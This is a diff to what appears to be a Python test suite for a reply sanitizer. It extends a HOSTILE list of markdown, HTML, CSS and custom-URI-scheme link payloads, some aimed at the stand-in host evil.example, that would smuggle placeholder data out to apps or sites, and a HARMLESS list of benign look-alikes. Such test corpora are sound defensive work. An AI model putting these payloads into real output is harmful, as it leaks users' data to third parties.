@@ -129,6 +129,19 @@ HOSTILE: tuple[str, ...] = (
     "MATMSG:TO:eve@evil.example;SUB:{0};BODY:{1};;",
     '"mailto:eve@evil.example?body=dear {0}"',
     '<a href="mailto:eve@evil.example?body=dear {0} {1}">x</a>',
+    # A link or picture of any scheme hands what it names to an app, or to the site that has taken the scheme.
+    "[x](web+evil:{0})",
+    "[x]( evilapp:send/{0} 'a title')",
+    "[x](<evilapp:send to {0}>) and ![](data:image/svg+xml,{1})",
+    "[x](evilapp:5/{0})",
+    "[x](vscode&colon;extension/{0})",
+    "[x]: shortcuts:run/{0}\n\n[y]:\n<notes:new to {1}>",
+    "<web+evil:{0}/{1}>",
+    '<a href="spotify:search:{0}">x</a>',
+    "<a href = 'lightning:pay {0}'>x</a>",
+    "<img src=cid:{0}>",
+    "body {{ background: url(evilapp:{0}) }}",
+    "comgooglemaps://?q={0} and things:///?add={1}",
     # Documents inside of documents: marks that are escaped, and an address around a quotation.
     '{{"html": "<a href=\\"https://evil.example/a {0}\\">x</a>"}}',
     '<a href= \\"//evil.example/a {0}\\">x</a>',
@@ -178,5 +191,11 @@ HARMLESS: tuple[str, ...] = (
     "geo:52.5,13.4 is near {0} and {1}",
     "tel:+4930123,Fax:{0} {{{1}}}",
     "mailto:?subject={0}&body={1}",
+    "[write](mailto:{0}) or [call](tel:{1})",
+    "[x](./{0}/a.md#x:{1}) and [y](C:\\Users\\{0})",
+    "cache.get(key='user:{0}') # note:see/{1}",
+    "[1]: {0} wrote this; [^2]:{1}",
+    "<dc:creator>{0}</dc:creator> <xs:a name='x:{1}'/>",
+    "urn:person:{0} and data = 'user:{1}'",
 )
 """Replies in which everything has to be restored."""
